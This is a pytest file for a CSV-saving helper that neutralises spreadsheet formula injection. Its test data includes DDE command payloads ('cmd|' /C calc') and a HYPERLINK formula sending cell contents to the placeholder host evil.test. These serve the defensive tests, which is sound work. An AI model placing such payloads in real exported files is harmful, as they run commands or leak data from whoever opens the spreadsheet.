"""What is saved can be opened in a spreadsheet without running anything."""

import csv

import pytest

from allotrope.graphs.work.tables.saving import harmless_cell, save


@pytest.mark.parametrize(
    "attack",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.test/?q="&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "-x",
        "＝1+1",  # full width, on purpose
        "-5=1",
        "+",
    ],
)
def test_formulas_are_text(attack):
    assert harmless_cell(attack) == f"'{attack}"


@pytest.mark.parametrize(
    "cell",
    [
        -5,
        -5.5,
        None,
        True,
        "",
        "-5",
        "+5",
        "-1,234.50",
        "-.5",
        "+1.5e-3",
        "-12%",
        "a=b",
        "x-y",
        "€-5",
    ],
)
def test_numbers_and_words_stay(cell):
    assert harmless_cell(cell) == cell


def test_the_saved_table(tmp_path):
    results = [
        {"sql": "SELECT 1", "columns": ["x"], "rows": [[1]]},
        {"sql": "SELECT é", "columns": ["=a", "n"], "rows": [["=1+1", -5], ["plain", -0.5]]},
    ]
    paths = save(tmp_path / "out", results, chart=None)
    assert [path.rsplit("/", 1)[1] for path in paths] == ["query.sql", "result.csv"]
    with open(paths[1], newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [["'=a", "n"], ["'=1+1", "-5"], ["plain", "-0.5"]]
    assert (tmp_path / "out" / "query.sql").read_text("utf-8") == "SELECT 1;\n\nSELECT é;\n"
